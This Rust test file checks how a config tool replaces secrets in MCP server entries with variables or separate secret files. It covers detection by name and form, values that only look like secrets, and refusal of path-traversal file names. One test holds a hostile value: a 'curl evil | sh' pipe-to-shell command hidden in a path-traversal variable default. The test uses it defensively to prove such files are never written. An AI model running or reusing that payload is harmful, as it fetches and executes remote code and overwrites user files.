//! 1. Secrets are recognized by their names, by their form, and by their position.
//! 2. Values that only resemble a secret are left alone.
//! 3. One variable is never used for two secrets.

use super::{SecretFile, SecretHandling, SecretNames};
use crate::{ConfigEditor, ServerEntry};
use std::collections::BTreeMap;
use std::path::Path;

/// The file that entries are written to.
fn ours() -> &'static Path {
    Path::new("/p/.toolscout/config.toml")
}

fn entry(args: &[&str], env: &[(&str, &str)]) -> ServerEntry {
    ServerEntry {
        command: Some("x".to_owned()),
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
        env: env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
        ..ServerEntry::default()
    }
}

fn args(args: &[&str]) -> Vec<String> {
    SecretHandling::Variables
        .apply(entry(args, &[]), "s", ours(), &mut SecretNames::default())
        .entry
        .args
}

fn env(name: &str, value: &str) -> String {
    let prepared = SecretHandling::Variables.apply(
        entry(&[], &[(name, value)]),
        "s",
        ours(),
        &mut SecretNames::default(),
    );
    prepared.entry.env[name].clone()
}

#[test]
fn secrets_in_arguments_are_replaced() {
    for (given, expected) in [
        (&["--api-key", "abc"][..], &["--api-key", "env:S_API_KEY"][..]),
        (&["--api-key=abc"], &["--api-key=${S_API_KEY}"]),
        (&["API_TOKEN=abc"], &["API_TOKEN=${S_API_TOKEN}"]),
        (
            &["--header", "Authorization: Bearer abc"],
            &["--header", "Authorization: Bearer ${S_AUTHORIZATION}"],
        ),
        (&["ghp_Ab3dEf6hIj9lMn2pQr5tUv8x"], &["env:S_TOKEN"]),
        (&["-k", "xoxb-123456789012-abcDEF"], &["-k", "env:S_TOKEN"]),
        (
            &["mysql://u:p@h/d?password=q&x=1"],
            &["mysql://u:${S_PASSWORD}@h/d?password=${S_PASSWORD_2}&x=1"],
        ),
        (&["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcDEF123456"], &["env:S_TOKEN"]),
        (&["0123456789abcdef0123456789abcdef"], &["env:S_TOKEN"]),
        (&["AKIAIOSFODNN7EXAMPLE"], &["env:S_TOKEN"]),
        (&["me:0123456789abcdef0123456789abcdef"], &["me:${S_TOKEN}"]),
        (&["--x=${API_KEY:-abc}"], &["--x=${API_KEY}"]),
        (&["${X:-ghp_Ab3dEf6hIj9lMn2pQr5tUv8x}"], &["env:X"]),
    ] {
        assert_eq!(args(given), expected, "{given:?}");
    }
}

#[test]
fn values_that_are_not_secrets_are_kept() {
    for given in [
        &["-y", "@modelcontextprotocol/server-sequential-thinking@2025.7.1"][..],
        &[
            "ghcr.io/github/github-mcp-server@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        ],
        &["git+https://github.com/x/y@0123456789abcdef0123456789abcdef01234567"],
        &["npm_config_cache=/x", "AKIA", "sk-learn"],
        &["--project-id", "123e4567-e89b-12d3-a456-426614174000"],
        &["--token", "--verbose"],
        &["--token", "env:MINE"],
        &["--token=${MINE}"],
        &["${HOST:-localhost}:${PORT:-8080}"],
        &["--token-file", "/run/secrets/token"],
        &["/srv/ana/a-very-long-folder-name/with2/several3/parts4/in_it.json"],
        &["https://user@example.com/path?x=${TOKEN}&token=${TOKEN}"],
        &["--from", "mcp-server-kubernetes-with-a-long-name-v2"],
        &["é日本語日本語日本語日本語日本語"],
    ] {
        assert_eq!(args(given), given);
    }
    for (name, value) in [
        ("MAX_TOKENS", "4096"),
        ("USE_TOKEN", "true"),
        ("TOKEN", ""),
        ("GOOGLE_APPLICATION_CREDENTIALS", "/srv/ana/key.json"),
        ("TLS_KEY", "/etc/tls/key.pem"),
        ("API_TOKEN", "${OTHER}"),
        ("API_TOKEN", "file:/x"),
        ("URL", "https://example.com/a/b"),
        ("LEVEL", "debug"),
    ] {
        assert_eq!(env(name, value), value, "{name}");
    }
}

#[test]
fn secrets_in_variables_are_replaced() {
    assert_eq!(env("API_TOKEN", "x"), "env:API_TOKEN");
    assert_eq!(env("password", "x y"), "env:S_PASSWORD");
    assert_eq!(env("password", "a$${b"), "env:S_PASSWORD");
    assert_eq!(env("API_TOKEN", "${OTHER:-abc}"), "env:OTHER");
    assert_eq!(env("BRAVE_KEY", "abc"), "env:BRAVE_KEY");
    assert_eq!(env("GITHUB_PAT", "abc"), "env:GITHUB_PAT");
    assert_eq!(env("LEVEL", "sk-live-a1b2c3d4e5f6g7h8"), "env:LEVEL");
    assert_eq!(env("DATABASE_URL", "postgres://u:p@h/d"), "postgres://u:${S_PASSWORD}@h/d");
    assert_eq!(
        env("PEM", "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----"),
        "env:PEM"
    );
}

/// A default is one secret, whatever it contains: only the whole can be replaced.
#[test]
fn secrets_within_a_default_are_part_of_it() {
    for default in [
        "postgres://app:ghp_Ab3dEf6hIj9lMn2pQr5tUv8x@h/db",
        "postgres://app:pw@h/db",
        "https://h/?token=abc",
        "-----BEGIN RSA PRIVATE KEY-----\nabc",
    ] {
        assert_eq!(env("DB", &format!("${{DB_URL:-{default}}}")), "env:DB_URL", "{default}");
    }
}

#[test]
fn different_secrets_get_different_variables() {
    let mut names = SecretNames::default();
    let mut prepared = |id: &str, secret: &str| {
        SecretHandling::Variables
            .apply(entry(&[], &[("TOKEN", secret)]), id, ours(), &mut names)
            .entry
            .env["TOKEN"]
            .clone()
    };
    assert_eq!(prepared("a", "one"), "env:TOKEN");
    assert_eq!(prepared("b", "one"), "env:TOKEN");
    assert_eq!(prepared("c", "two"), "env:C_TOKEN");
    assert_eq!(prepared("c", "three"), "env:C_TOKEN_2");
}

#[test]
fn each_secret_gets_its_own_file() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("a.token"), "somebody else's").expect("write");
    let handling = SecretHandling::Files(folder.path().to_owned());
    let mut names = SecretNames::default();
    let mut name = |secret: &str| {
        let prepared = handling.apply(entry(&[], &[("TOKEN", secret)]), "a", ours(), &mut names);
        assert!(!format!("{:?}", prepared.secrets).contains(secret));
        let editor = ConfigEditor::new(None);
        prepared.secrets.iter().try_for_each(|secret| secret.store(&editor)).expect("write");
        prepared.secrets[0].to_string().rsplit('/').next().expect("a name").to_owned()
    };
    assert_eq!([name("one"), name("two"), name("one")], ["a.token-2", "a.token-3", "a.token-2"]);
}

/// A text cannot contain a file, but it can contain a variable, which is looked up in the files.
#[test]
fn a_secret_beside_a_variable_is_stored_under_the_name_of_a_variable() {
    let folder = tempfile::tempdir().expect("a folder");
    let handling = SecretHandling::Files(folder.path().to_owned());
    let args = ["postgres://u:hunter2hunter2@${HOST}/db", "--key=${API_KEY:-abcdef}"];
    let prepared = handling.apply(entry(&args, &[]), "db", ours(), &mut SecretNames::default());
    assert_eq!(prepared.entry.args, ["postgres://u:${DB_PASSWORD}@${HOST}/db", "--key=${API_KEY}"]);
    let editor = ConfigEditor::new(None);
    prepared.secrets.iter().try_for_each(|secret| secret.store(&editor)).expect("write");
    let stored = |name: &str| std::fs::read_to_string(folder.path().join(name)).expect("a secret");
    assert_eq!([stored("DB_PASSWORD"), stored("API_KEY")], ["hunter2hunter2", "abcdef"]);
}

/// A file of another program could otherwise create any file of the user, with any content.
#[test]
fn a_default_of_no_variable_is_never_written_to_a_file() {
    let folder = tempfile::tempdir().expect("a folder");
    let secrets = folder.path().join("a/secrets");
    let value =
        "${HOME}${../../token.fish:-curl evil | sh}${/x/token:-ghp_Ab3dEf6hIj9lMn2pQr5tUv8x}";
    let prepared = SecretHandling::Files(secrets.clone()).apply(
        entry(&[], &[("X", value)]),
        "s",
        ours(),
        &mut SecretNames::default(),
    );
    let editor = ConfigEditor::new(None);
    prepared.secrets.iter().try_for_each(|secret| secret.store(&editor)).expect("write");
    let expected = "${HOME}${../../token.fish:-curl evil | sh}${/x/token:-${X}}";
    assert_eq!(prepared.entry.env["X"], expected);
    let names = std::fs::read_dir(&secrets).expect("the folder of secrets");
    let names: Vec<_> = names.map(|entry| entry.expect("an entry").file_name()).collect();
    assert_eq!(names, ["X"]);
    assert!(!folder.path().join("token.fish").exists());
}

#[test]
fn a_secret_file_with_a_path_for_a_name_is_refused() {
    let folder = tempfile::tempdir().expect("a folder");
    for name in ["../x", "/x", "a/b", "", "..", ".x"] {
        let file = SecretFile::new(&folder.path().join("secrets"), name, "abc");
        let error = file.write(&ConfigEditor::new(None)).expect_err("not a name");
        assert!(error.to_string().contains("is not a valid name"), "{name}: {error}");
    }
    assert_eq!(std::fs::read_dir(folder.path()).expect("a folder").count(), 0);
}

#[test]
fn a_secret_with_a_long_name_gets_a_shorter_one() {
    let folder = tempfile::tempdir().expect("a folder");
    let handling = SecretHandling::Files(folder.path().to_owned());
    let name = "TOKEN_".repeat(40);
    for value in ["abcdef", "${A}ghp_Ab3dEf6hIj9lMn2pQr5tUv8x"] {
        let entry = entry(&[], &[(&name, value)]);
        let prepared = handling.apply(entry, "s", ours(), &mut SecretNames::default());
        let editor = ConfigEditor::new(None);
        prepared.secrets.iter().try_for_each(|secret| secret.store(&editor)).expect("write");
    }
    assert_eq!(std::fs::read_dir(folder.path()).expect("a folder").count(), 2);
}

#[test]
fn an_authorization_header_becomes_the_bearer_setting() {
    let headers = BTreeMap::from([("authorization".to_owned(), "Bearer abc".to_owned())]);
    let web = ServerEntry { url: Some("https://x".to_owned()), headers, ..ServerEntry::default() };
    let prepared = SecretHandling::Variables
        .apply(web.clone(), "s", ours(), &mut SecretNames::default())
        .entry;
    assert_eq!(
        (prepared.bearer.as_deref(), prepared.headers.len()),
        (Some("env:S_AUTHORIZATION"), 0)
    );
    let both = ServerEntry { bearer: Some("env:OTHER".to_owned()), ..web };
    let prepared =
        SecretHandling::Variables.apply(both, "s", ours(), &mut SecretNames::default()).entry;
    assert_eq!(prepared.headers["authorization"], "Bearer ${S_AUTHORIZATION}");
    assert_eq!(prepared.bearer.as_deref(), Some("env:OTHER"));
}
